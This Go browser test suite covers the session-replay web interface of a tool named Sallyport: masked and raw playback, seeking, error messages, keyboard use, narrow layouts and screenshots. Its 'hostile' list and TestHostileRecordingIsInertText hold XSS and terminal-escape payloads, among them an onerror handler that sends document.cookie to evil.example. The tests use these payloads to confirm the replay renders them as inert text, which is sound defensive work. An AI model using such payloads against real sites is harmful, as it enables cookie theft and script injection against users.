package web_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"sallyport/policy"
)

func TestPlayerPlaysMaskedAndRaw(t *testing.T) {
	built(t)
	w := newWorld(t)
	id := w.record(policy.Session{User: ada}, "\x1b[32mready\x1b[0m\r\n", "key "+secretKey+" end\r\n", "last line\r\n")
	b := newBrowser(t, w, audit)
	b.openSession(w, id, "")
	text := b.playToEnd("last line")
	for _, want := range []string{"ready", "key ", "***"} {
		if !strings.Contains(text, want) {
			t.Errorf("the masked replay lacks %q:\n%s", want, text)
		}
	}
	if strings.Contains(text, secretKey) || strings.Contains(eval[string](b, "document.documentElement.outerHTML"), secretKey) {
		t.Errorf("the masked replay shows the secret:\n%s", text)
	}
	if n := eval[int](b, `document.querySelectorAll(".masks [data-seek]").length`); n != 1 {
		t.Errorf("%d masks are listed, want 1", n)
	}
	// A click on a mask moves the player there, on the same page.
	b.run(click(".masks [data-seek]"))
	do(b, chromedp.Poll[bool](`document.querySelector(".ap-term").innerText.includes("***")`))
	if at := eval[string](b, "location.search"); at != "" {
		t.Errorf("the click loaded %q", at)
	}

	b.run(click(`a[href$="view=raw"]`), visible(`.notice.bad`), visible(`[data-state="ready"] .ap-term`))
	if text := b.playToEnd("last line"); !strings.Contains(text, secretKey) {
		t.Errorf("the raw replay lacks the secret:\n%s", text)
	}
}

// TestNoOutputIsLost plays in the ways that a player may get wrong: from the
// start, from a later place, and after going to one.
func TestNoOutputIsLost(t *testing.T) {
	built(t)
	w := newWorld(t)
	w.pace = 700 * time.Millisecond
	id := w.record(policy.Session{User: ada}, "number one\r\n", "number two\r\n", secretKey+"\r\n", "number four\r\n", "number five\r\n")
	b := newBrowser(t, w, ada)
	all := func(how, text string) {
		t.Helper()
		for _, want := range []string{"one", "two", "****", "four", "five"} {
			if !strings.Contains(text, want) {
				t.Errorf("%s: %q is missing:\n%s", how, want, text)
			}
		}
	}
	b.openSession(w, id, "")
	b.shows("number one") // before anybody plays
	all("from the start", b.playToEnd("number five"))
	b.openSession(w, id, "?t=2") // the secret comes at 1.4 s, or a little later on a busy machine
	b.shows("****")
	all("from a place in the address", b.playToEnd("number five"))
	b.openSession(w, id, "")
	b.run(click(".masks [data-seek]"))
	b.shows("****")
	all("after going to a mask", b.playToEnd("number five"))
}

// TestPlayerSaysWhatIsWrong holds that an unplayable recording is a sentence,
// not an empty box.
func TestPlayerSaysWhatIsWrong(t *testing.T) {
	built(t)
	w := newWorld(t)
	b := newBrowser(t, w, ada)
	const loaded = "The recording could not be loaded: The server could not do this. Its log says why."
	for name, tt := range map[string]struct {
		output []string
		change func([]byte, int) []byte
		want   string
	}{
		"empty":        {nil, func(b []byte, _ int) []byte { return b }, "Nothing was recorded."},
		"no recording": {[]string{"one\r\n"}, func([]byte, int) []byte { return []byte("<b>none</b>\n") }, loaded},
	} {
		id := w.record(policy.Session{User: ada}, tt.output...)
		w.damage(id, tt.change)
		b.open(w.base + "/sessions/" + string(id))
		b.run(visible("#player-status:not(:empty)"))
		t.Log(name)
		do(b, chromedp.Poll[bool](fmt.Sprintf("document.querySelector('#player-status').textContent === %q", tt.want)))
	}
	b.forget("500") // which the browser logs
}

// hostile is what a session may print to do harm where it is replayed.
var hostile = []string{
	"<script>window.pwned=1;alert(1)</script>\r\n",
	"<img src=x onerror=\"window.pwned=1;fetch('http://evil.example/'+document.cookie)\">\r\n",
	"<svg onload=alert(1)></svg><iframe src=\"javascript:alert(1)\"></iframe>\r\n",
	"\x1b]0;<script>window.pwned=1</script>\x07\x1b]2;pwned title\x1b\\",
	"\x1b]8;;javascript:window.pwned=1\x1b\\click me\x1b]8;;\x1b\\\r\n",
	"\x1b]8;;http://evil.example/\x07or me\x1b]8;;\x07\r\n",
	"\x1b]52;c;cHduZWQ=\x07\x1b]52;c;?\x07",
	"\x1bP1$r<script>alert(1)</script>\x1b\\\x1b_Gf=100;<img src=x>\x1b\\\x1b^pm\x1b\\",
	"\x1b]1337;File=inline=1:PHNjcmlwdD4=\x07\x1b]50;<b>\x07",
	"\u2028\u2029</script>\"]\n# not a comment\r\n",
	"\xff\xfe</title><script>alert(1)</script>\r\n",
	"still here\r\n",
}

// TestHostileRecordingIsInertText is THREATS T32 in a real browser.
func TestHostileRecordingIsInertText(t *testing.T) {
	built(t)
	const markup = `"><script>window.pwned=1;alert(1)</script><img src=x onerror=alert(1)>`
	w := newWorld(t)
	bad := ada
	bad.Email, bad.Name = "", markup+"\x1b[2J\u202e"
	id := w.record(policy.Session{
		User: bad, Target: `db1` + markup, Login: policy.Login(`root'` + markup), Action: policy.ActionShell,
		TTY: true, Term: markup, Cols: 100, Rows: 30, Command: "</code>" + markup + "\x00\nsecond line",
		Coverage: []string{markup}, Env: map[string]string{"LANG": markup},
	}, hostile...)
	b := newBrowser(t, w, audit)
	b.open(w.base + "/?q=%22%3E%3Cscript%3Ewindow.pwned%3D1%3C/script%3E")
	b.inert()
	b.open(w.base + "/")
	b.run(visible(".list"))
	b.inert()
	b.openSession(w, id, "")
	text := b.playToEnd("still here")
	b.inert()
	for _, want := range []string{"<script>window.pwned=1;alert(1)</script>", "onerror=", "click me", "or me"} {
		if !strings.Contains(text, want) {
			t.Errorf("the replay lacks %q:\n%s", want, text)
		}
	}
	title := eval[string](b, "document.title")
	if !strings.HasSuffix(title, "· Sallyport") || !strings.Contains(title, "<script>") || strings.Contains(title, "pwned title") {
		t.Errorf("title %q", title)
	}
	if n := eval[int](b, `document.querySelectorAll(".player a[href], .player img, .player iframe, .player script").length`); n != 0 {
		t.Errorf("the replay became %d links, images, frames or scripts", n)
	}
	// Reading the clipboard may be refused; then it was not written either.
	if got := eval[string](b, `navigator.clipboard.readText().catch(() => "")`, chromedp.EvalAwaitPromise); strings.Contains(got, "pwned") {
		t.Errorf("the clipboard holds %q", got)
	}
	// Each export as a page of its own, as if a browser had been made to show it.
	for _, format := range []string{"txt", "v2", "v3", "raw"} {
		resp, _ := w.signedIn(audit).get("/sessions/" + string(id) + "/export?format=" + format)
		h := resp.Header
		if !strings.HasPrefix(h.Get("Content-Disposition"), "attachment;") || strings.Contains(h.Get("Content-Type"), "html") ||
			!strings.Contains(h.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("export as %s: %v", format, h)
		}
	}
	b.run(chromedp.Navigate(w.base + "/api/v1/sessions/" + string(id)))
	b.inert()
	b.open(w.base + "/sessions/" + string(id) + "?t=%22%3E%3Cscript%3Ealert(1)%3C/script%3E")
	b.inert()
}

// inert fails when a payload ran or became an element.
func (b *browser) inert() {
	b.t.Helper()
	if eval[bool](b, `"pwned" in window`) {
		b.t.Error("a script of the recording ran")
	}
	if n := eval[int](b, `document.querySelectorAll("img[src=x], svg[onload], iframe, script:not([src])").length`); n != 0 {
		b.t.Errorf("%d elements of the recording are in the page", n)
	}
}

// TestKeyboardIsEnough goes from the list into a recording, plays it and signs
// out, without a mouse.
func TestKeyboardIsEnough(t *testing.T) {
	built(t)
	w := newWorld(t)
	id := w.record(policy.Session{User: ada}, "first\r\n", "last line\r\n")
	b := newBrowser(t, w, ada)
	if at := b.tabTo(`.list a`); at != "/sessions/"+string(id) {
		t.Fatalf("the first recording's link leads to %q", at)
	}
	b.run(chromedp.KeyEvent(kb.Enter), visible(`[data-state="ready"] .ap-term`))
	b.tabTo(".ap-term-text")
	b.run(chromedp.KeyEvent(" "), visible(`[data-player="ended"]`))
	b.open(w.base + "/")
	b.tabTo(".who button")
	b.run(chromedp.KeyEvent(kb.Enter), visible(`a[href="/login"]`))
	if h := eval[string](b, `document.querySelector("h1").textContent`); h != "You are signed out" {
		t.Errorf("after signing out: %q", h)
	}
}

// tabTo presses Tab until an element that matches selector has the focus, and
// returns where it leads.
func (b *browser) tabTo(selector string) string {
	b.t.Helper()
	for range 60 {
		b.run(chromedp.KeyEvent(kb.Tab))
		if eval[bool](b, fmt.Sprintf("document.activeElement.matches(%q)", selector)) {
			return eval[string](b, `document.activeElement.getAttribute("href") ?? ""`)
		}
	}
	b.t.Fatalf("Tab does not reach %s", selector)
	return ""
}

// TestPagesFitNarrowWindows holds that nothing makes a page scroll sideways.
func TestPagesFitNarrowWindows(t *testing.T) {
	built(t)
	w := newWorld(t)
	long := strings.Repeat("wordwithoutanyspace", 20)
	id := w.record(policy.Session{User: policy.User{Issuer: "https://idp", Subject: long, Name: long}, Target: long, Command: long,
		Action: policy.ActionExec, TTY: true, Cols: 200, Rows: 20}, "wide "+strings.Repeat("x", 150)+"\r\n")
	b := newBrowser(t, w, audit)
	for _, width := range []int64{320, 390, 768, 1280} {
		b.size(width, 800, "light")
		for _, path := range []string{"/", "/sessions/" + string(id), "/logout", "/nothing"} {
			b.open(w.base + path)
			if over := eval[int](b, "document.documentElement.scrollWidth - innerWidth"); over > 0 {
				t.Errorf("%.20s is %d pixels too wide at %d", path, over, width)
			}
		}
	}
	b.forget("404") // which the browser logs for /nothing
}

// TestScreenshot makes the picture of the README, and with
// SALLYPORT_SCREENSHOT_DIR pictures of every page in both schemes and widths.
func TestScreenshot(t *testing.T) {
	write, dir := os.Getenv("SALLYPORT_WRITE_SCREENSHOT") == "1", os.Getenv("SALLYPORT_SCREENSHOT_DIR")
	if !write && dir == "" {
		t.Skip("no picture is asked for")
	}
	built(t)
	w := newWorld(t)
	id := w.scenery()
	b := newBrowser(t, w, audit)
	shot := func(path, name string, action chromedp.Action[[]byte]) {
		png := do(b, action)
		if err := os.MkdirAll(path, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(path, name+".png"), png, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	replayed := func(query string) {
		b.openSession(w, id, query)
		b.run(click(".masks li:last-child [data-seek]"))
		b.shows("AWS_ACCESS")
		b.run(click(".ap-player")) // plays, and so takes the large button away
		b.run(chromedp.KeyEvent(kb.ArrowRight), chromedp.KeyEvent(kb.ArrowRight))
		b.shows("upload slow")
		b.run(click(".ap-playback-button"), visible(`[data-player="pause"]`))
		b.run(chromedp.ScrollIntoView(chromedp.CSS(".top")))
		time.Sleep(300 * time.Millisecond) // the progress bar moves into its place
	}
	if write {
		b.size(1280, 900, "light")
		replayed("")
		shot("../../docs/images", "replay", chromedp.CaptureScreenshot())
	}
	if dir == "" {
		return
	}
	whole := chromedp.FullScreenshot(100)
	for _, scheme := range []string{"light", "dark"} {
		for name, width := range map[string]int64{"wide": 1280, "narrow": 390} {
			b.size(width, 800, scheme)
			b.open(w.base + "/")
			shot(dir, "list-"+name+"-"+scheme, whole)
			b.open(w.base + "/logout")
			shot(dir, "logout-"+name+"-"+scheme, whole)
			replayed("")
			shot(dir, "session-"+name+"-"+scheme, whole)
		}
	}
	replayed("?view=raw")
	shot(dir, "session-raw", whole)
}
